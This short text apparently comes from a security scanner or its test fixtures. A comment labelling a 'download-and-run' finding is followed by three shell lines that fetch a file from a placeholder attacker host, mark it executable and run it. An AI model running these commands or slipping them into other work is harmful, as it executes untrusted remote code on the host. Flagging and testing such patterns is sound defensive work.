# nacre: found process.download-and-run
wget https://evil.example/x -O /tmp/x
chmod +x /tmp/x
/tmp/x
